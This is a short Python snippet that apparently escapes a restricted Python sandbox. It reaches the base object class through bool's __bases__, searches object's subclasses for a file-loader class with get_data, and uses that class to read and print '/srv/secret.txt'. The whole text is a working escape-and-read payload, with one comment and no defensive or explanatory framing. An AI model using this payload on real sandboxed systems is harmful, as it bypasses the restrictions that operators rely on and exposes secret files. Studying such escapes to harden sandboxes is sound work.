# reaches: object is found through the bases of bool
top = True.__class__.__bases__[0].__bases__[0]
for c in top.__subclasses__():
    if hasattr(c, "get_data"):
        print(c("a", "b").get_data("/srv/secret.txt").decode())
        break
